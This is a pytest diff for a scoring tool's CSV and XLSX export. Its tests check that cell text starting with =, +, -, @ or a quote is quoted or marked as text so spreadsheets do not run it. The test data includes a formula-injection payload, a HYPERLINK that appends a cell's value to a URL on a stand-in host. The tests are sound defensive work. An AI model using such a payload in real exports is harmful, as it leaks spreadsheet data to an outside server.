@@ -13,7 +13,7 @@ import pytest
 from openpyxl.worksheet.worksheet import Worksheet
 
 from services.scoring import engine, rules
-from services.scoring.excel import exporter, importer
+from services.scoring.excel import exporter, importer, summary
 from services.scoring.system import IndicatorSystem
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -195,3 +195,120 @@ def test_csv_export_imports_back_by_recognising_its_standards() -> None:
     assert [n.name for n in imported.system.indicators] == ["决策", "过程", "产出", "效益"]
     assert imported.report.judged == []
     assert {i.source for i in imported.report.indicators} == {"standard"}
+
+
+# Texts a spreadsheet would run as formulas (OWASP), one per trigger, and a text that already
+# starts with the quote an export adds: it gets a second one, so an import gives it back.
+RISKY = ['=HYPERLINK("http://example.com/?d="&A1,"详情")', "+1", "-5", "@SUM(A1)", "'=1+1"]
+QUOTED = ['\'=HYPERLINK("http://example.com/?d="&A1,"详情")', "'+1", "'-5", "'@SUM(A1)", "''=1+1"]
+
+
+def risky_system(name: str = "-体系") -> IndicatorSystem:
+    """Leaves named RISKY then 依据 (2 points each, judged), a fact, a grade "-合格" for all."""
+    leaves = [
+        {"code": f"1.1.{i}", "name": n, "weight": "2", "standard": n, "rule": {"kind": "judgement"}}
+        for i, n in enumerate([*RISKY, "依据"], start=1)
+    ]
+    two = {"code": "1.1", "name": "@立项", "weight": "12", "children": leaves}
+    one = {"code": "1", "name": "决策", "weight": "12", "children": [two]}
+    return IndicatorSystem.model_validate(
+        {
+            "name": name,
+            "total_weight": "12",
+            "indicators": [one],
+            "facts": [{"name": "结余", "type": "amount", "unit": "-万元"}],
+            "grade_scale": {"name": "+等级", "bands": [{"grade": "-合格", "min": 0}]},
+        }
+    )
+
+
+def risky_result(system: IndicatorSystem) -> engine.Result:
+    """Score each leaf 1.5 of 2, with a reason that starts like a formula."""
+    judgements = {
+        f"1.1.{i}": rules.Judgement(score=Decimal("1.5"), reason="=1+1") for i in range(1, 7)
+    }
+    return engine.compile_system(system).score({}, judgements)
+
+
+def test_csv_texts_that_would_run_as_formulas_get_a_quote_and_numbers_stay_numbers() -> None:
+    system = risky_system()
+    data = exporter.write_csv(system, risky_result(system))
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows[0] == ["'-体系"]
+    assert rows[2][:4] == ["决策", "12", "'@立项", "12"]
+    assert [(row[4], row[7]) for row in rows[2:8]] == [(q, q) for q in [*QUOTED, "依据"]]
+    # Weight, score, rate, reason, level-2 and level-1 scores: numbers without a quote.
+    assert [rows[2][i] for i in (5, 9, 10, 11, 12, 13)] == ["2", "1.5", "75.00%", "'=1+1", "9", "9"]
+    assert rows[8][:2] + rows[8][9:11] == ["合计", "12", "9", "75.00%"]
+    assert rows[9] == ["评价等级", "'-合格"]
+    imported = importer.import_system(data).system
+    assert imported.name == "-体系"
+    assert imported.indicators[0].children[0].name == "@立项"
+    assert [n.name for n in imported.indicators[0].children[0].children] == [*RISKY, "依据"]
+    assert [n.standard for n in imported.indicators[0].children[0].children] == [*RISKY, "依据"]
+
+
+def test_xlsx_texts_that_would_run_as_formulas_are_text_and_sums_stay_formulas() -> None:
+    system = risky_system(name="=1+1")
+    result = risky_result(system)
+    data = exporter.write_xlsx(system, result, facts={"结余": Decimal(-5)})
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    sheet = book["评分表"]
+    texts = [sheet[ref] for ref in ("A1", "C3", "E3", "E4", "E5", "E6", "H6", "L3", "B10")]
+    assert [(c.value, c.data_type, c.quotePrefix) for c in texts] == [
+        ("=1+1（评分表）", "s", True),
+        ("@立项", "s", True),
+        *((text, "s", True) for text in RISKY[:4]),
+        ("@SUM(A1)", "s", True),
+        ("=1+1", "s", True),
+        ("-合格", "s", True),
+    ]
+    # Already quoted: stored as written (Excel shows the quote), nothing to run.
+    assert [(sheet[r].value, sheet[r].quotePrefix) for r in ("E7", "E8")] == [
+        ("'=1+1", False),
+        ("依据", False),
+    ]
+    assert [(sheet[ref].value, sheet[ref].data_type) for ref in ("F3", "J3", "M3", "J9")] == [
+        (2, "n"),
+        (1.5, "n"),
+        ("=SUM(J3:J8)", "f"),
+        ("=SUM(N3:N8)", "f"),
+    ]
+    facts = book["数据项"]
+    assert [c.value for c in facts[2]] == ["结余", "amount", "-万元", None, -5, None]
+    assert (facts["C2"].data_type, facts["C2"].quotePrefix) == ("s", True)
+    assert (facts["E2"].data_type, facts["E2"].quotePrefix) == ("n", False)  # -5 stays a number
+    imported = importer.import_system(data, with_judgements=True)
+    assert (imported.system, imported.facts) == (system, {"结余": Decimal(-5)})
+
+
+def test_summaries_keep_project_labels_and_names_as_text_and_totals_as_sums() -> None:
+    system = risky_system()
+    result = risky_result(system)
+    items = [('=HYPERLINK("http://example.com","甲")', result), ("-5号", result), ("乙", result)]
+    rows = list(csv.reader(io.StringIO(summary.write_csv(system, items).decode("utf-8-sig"))))
+    assert rows[0][3:6] == ["决策（12）", "'@立项（12）", RISKY[0].join(["1.1.1 ", "（2）"])]
+    assert [row[:4] for row in rows[1:]] == [
+        ['\'=HYPERLINK("http://example.com","甲")', "'-合格", "9", "9"],
+        ["'-5号", "'-合格", "9", "9"],
+        ["乙", "'-合格", "9", "9"],
+    ]
+    sheet = openpyxl.load_workbook(io.BytesIO(summary.write_xlsx(system, items))).worksheets[0]
+    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet[2][:6]] == [
+        ('=HYPERLINK("http://example.com","甲")', "s", True),
+        ("-合格", "s", True),
+        ("=SUM(D2)", "f", False),
+        ("=SUM(E2)", "f", False),
+        ("=SUM(F2:K2)", "f", False),
+        (1.5, "n", False),
+    ]
+    assert (sheet["A3"].value, sheet["A3"].quotePrefix, sheet["A4"].quotePrefix) == (
+        "-5号",
+        True,
+        False,
+    )
+    assert (sheet["E1"].value, sheet["E1"].data_type, sheet["E1"].quotePrefix) == (
+        "@立项（12）",
+        "s",
+        True,
+    )
